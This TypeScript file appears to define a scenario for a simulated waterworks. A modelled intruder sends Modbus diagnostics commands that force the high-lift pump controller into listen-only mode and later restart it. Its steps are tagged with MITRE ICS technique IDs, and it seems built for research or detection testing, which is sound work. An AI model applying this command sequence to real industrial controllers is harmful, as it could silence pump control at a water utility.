import { modbus } from '@fengsui/wire';
import { attackOn } from '../attack.ts';
import { Waterworks } from '../plants/waterworks.ts';
import { pluggedIn } from './intruder.ts';

/** A controller is silenced by its own diagnostics function, and restarted by the same. */
export const modbusListenOnly = attackOn(Waterworks, {
  name: 'modbus-listen-only',
  title: 'A controller is silenced and restarted',
  description:
    'Diagnostics sub-function 4 forces the controller of the lift pumps into listen-only mode; later sub-function 1 restarts it.',
  plants: ['waterworks'],
  duration: 60,
  prepare: (site) => {
    const intruder = pluggedIn(site);
    return { intruder, lift: site.connect(intruder, 'plc-lift') };
  },
  client: (x) => x.intruder,
  steps: [
    {
      at: 0,
      techniques: ['T0814', 'T0803'],
      description: 'Force listen-only mode: the controller of the high-lift pumps stops answering',
      server: 'plc-lift',
      run: ({ lift }) => {
        lift.request(1, (x) => modbus.encode.diagnostics(x, 4));
      },
    },
    {
      at: 40,
      techniques: ['T0816'],
      description: 'Restart communications: the controller restarts its port, and comes back',
      server: 'plc-lift',
      run: ({ lift }, { network }) => {
        lift.request(1, (x) => modbus.encode.diagnostics(x, 1));
        network.after(8, () => lift.request(1, (x) => modbus.encode.diagnostics(x, 10)));
        network.after(10, () => lift.connection.close());
      },
    },
  ],
});
